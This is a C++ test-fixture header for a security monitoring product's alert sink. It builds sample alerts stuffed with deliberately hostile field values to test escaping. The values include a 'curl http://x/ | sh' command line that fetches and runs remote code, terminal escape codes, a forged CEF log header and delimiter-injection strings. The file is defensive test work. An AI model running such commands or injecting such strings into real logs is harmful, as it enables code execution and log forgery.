// An alert with everything in it, much of it hostile, and a directory that is gone after the test.
#pragma once

#include <string>

#include "daemoneye/alert.pb.h"
#include "temp_dir.h"

namespace de::sink {

using test::read_text;
using test::TempDir;

inline pb::AlertField& add_field(pb::Alert& alert, const std::string& column) {
  pb::AlertField& field = *alert.add_data();
  field.set_column(column);
  return field;
}

inline pb::Alert small_alert(std::uint64_t sequence, pb::Severity severity = pb::SEVERITY_HIGH) {
  pb::Alert alert;
  alert.set_id("id-" + std::to_string(sequence));
  alert.set_sequence(sequence);
  alert.set_severity(severity);
  alert.set_title("alert " + std::to_string(sequence));
  alert.mutable_completeness()->set_complete(true);
  return alert;
}

inline void add_hostile_data(pb::Alert& alert) {
  add_field(alert, "pid").mutable_value()->set_integer(4242);
  add_field(alert, "name").mutable_value()->set_text("sh\x1b[31m");
  add_field(alert, "command_line").mutable_value()->set_text("sh -c \"curl http://x/ | sh\"\nsecond,line\r\x7f");
  add_field(alert, "cwd").mutable_value()->set_text("/tmp/\xff\xc2\x9b\xc3\xa9");  // Invalid byte, C1 control, e acute.
  add_field(alert, "cpu_usage").mutable_value()->set_real(12.5);
  add_field(alert, "executable_hash").mutable_value();
  add_field(alert, "raw").mutable_value()->set_blob(std::string("\x00\xfe", 2));
  add_field(alert, "pid").mutable_value()->set_integer(-1);
}

inline pb::Alert full_alert() {
  pb::Alert alert;
  alert.set_id("3f2b8c1e-0d4a-4c7e-9a51-6f0e2d7c8b90");
  alert.set_sequence(17);
  alert.set_alert_time_ms(1'767'323'045'678);
  alert.set_rule_id("web-shell");
  alert.set_rule_generation(3);
  alert.set_rule_author("Ann Author");
  alert.set_rule_license("DRL-1.1");
  alert.set_rule_source("https://rules.example/a.yml");
  alert.set_rule_execution_time_us(1'234);
  alert.set_title("Shell from web server: sh\\x1b[31m (pid 4242)");
  alert.set_description("=A web server started a shell.\nLook at its \"parent\".");
  alert.set_severity(pb::SEVERITY_CRITICAL);
  alert.set_category("execution");
  alert.add_tags("attack.t1059");
  alert.add_tags("+web");
  alert.set_host("box-1");
  alert.set_scan_id(9);
  alert.set_process_uid("6f9619ff-8b86-5011-b42d-00cf4fc964ff");
  alert.set_process_count(1);
  alert.add_affected_processes(4242);
  alert.set_count(3);
  alert.set_first_seen_ms(1'767'323'045'000);
  alert.set_last_seen_ms(1'767'323'049'000);
  alert.set_dedupe_key("web-shell|sh%1b[31m|%2fbin%2fsh|33");
  alert.set_correlation_id("0c1d2e3f-0000-4000-8000-000000000001");
  pb::Ancestor& nginx = *alert.add_ancestry();
  nginx.set_pid(100);
  nginx.set_name("nginx");
  nginx.set_executable_path("/usr/sbin/nginx");
  pb::Ancestor& init = *alert.add_ancestry();
  init.set_pid(1);
  init.set_name("init\n");
  add_hostile_data(alert);
  alert.mutable_completeness()->set_complete(false);
  pb::Reason& shed = *alert.mutable_completeness()->add_reasons();
  shed.set_reason("EventsShed");
  shed.set_collector("procmond");
  shed.set_detail("12 events");
  alert.mutable_completeness()->add_reasons()->set_reason("ResultCapped");
  return alert;
}

// A row with all that other products have fields for, hostile where a process chooses it.
inline pb::Alert process_alert() {
  pb::Alert alert = small_alert(5, pb::SEVERITY_MEDIUM);
  alert.set_title("a|b\\c=d \"e\" f]g");
  alert.set_description("first\nCEF:0|x|y|z|1|forged|10|cat=forged\r\\ end");
  alert.set_rule_id("rule|1");
  alert.set_host("box-2");
  alert.set_count(2'000'000'000);
  alert.set_alert_time_ms(1'767'323'045'678);
  alert.set_rule_digest(std::string(64, 'd'));
  alert.set_process_uid("6f9619ff-8b86-5011-b42d-00cf4fc964ff");
  alert.mutable_event()->set_type("exec");
  const auto text = [&](const char* column, std::string value) {
    add_field(alert, column).mutable_value()->set_text(std::move(value));
  };
  add_field(alert, "pid").mutable_value()->set_integer(77);
  add_field(alert, "start_time_ms").mutable_value()->set_integer(1'767'323'000'000);
  text("name", "x cat=forged spid=1");
  text("executable_path", "/tmp/a\tb|c=\"d\"/x\xc2\x85y\x7f");
  text("command_line", "x cat=forged \\ | \"]\" \n\r\b\f \xf0\x9f\x92\xa9 \\ud800 =1+1 end\\");
  text("cwd", "/tmp");
  text("executable_hash", std::string(64, 'a'));
  text("user_id", "1000");
  text("user_name", "ann\x1b");
  text("container_id", "c0ffee");
  text("container_runtime", "podman");
  pb::Ancestor& parent = *alert.add_ancestry();
  parent.set_pid(76);
  parent.set_name("sh");
  parent.set_executable_path("/bin/sh");
  parent.set_process_uid(std::string(16, '\x05'));
  return alert;
}

}  // namespace de::sink
